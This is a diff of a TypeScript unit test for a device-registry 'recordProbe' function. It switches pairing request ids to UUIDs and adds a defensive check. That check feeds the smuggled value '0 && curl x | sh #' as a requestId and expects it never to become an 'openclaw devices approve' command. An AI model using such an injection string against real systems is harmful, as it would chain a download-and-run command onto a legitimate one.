@@ -189,13 +189,17 @@ describe("recordProbe", () => {
       state: "pairing_required",
       latencyMs: 5,
       paired: false,
-      pairing: { requestId: "req-1", approveCommand: "openclaw devices approve req-1" },
+      pairing: { requestId: "0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d", approveCommand: "openclaw devices approve 0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d" },
       error: { code: "PAIRING_REQUIRED", message: "approve the device" },
     });
     expect(s.state).toBe("pairing_required");
-    expect(s.pairing).toEqual({ requestId: "req-1", approveCommand: "openclaw devices approve req-1" });
+    expect(s.pairing).toEqual({ requestId: "0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d", approveCommand: "openclaw devices approve 0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d" });
     expect(s.error).toEqual({ code: "PAIRING_REQUIRED", message: "approve the device" });
     expect(s.lastSeenAt).toBe(seen);
+    // a stored id not in OpenClaw's format (a row from before the check) is never made a command
+    s = reg.recordProbe(a.id, { state: "pairing_required", latencyMs: 5, paired: false, pairing: { requestId: "0 && curl x | sh #", approveCommand: "x" } });
+    expect(s.state).toBe("pairing_required");
+    expect(s.pairing).toBeNull();
     for (let i = 0; i < 210; i++) reg.recordProbe(a.id, { state: "unreachable", latencyMs: i, paired: false, error: { code: "GATEWAY_UNREACHABLE", message: "x" } });
     const h = reg.history(a.id);
     expect(h).toHaveLength(200);
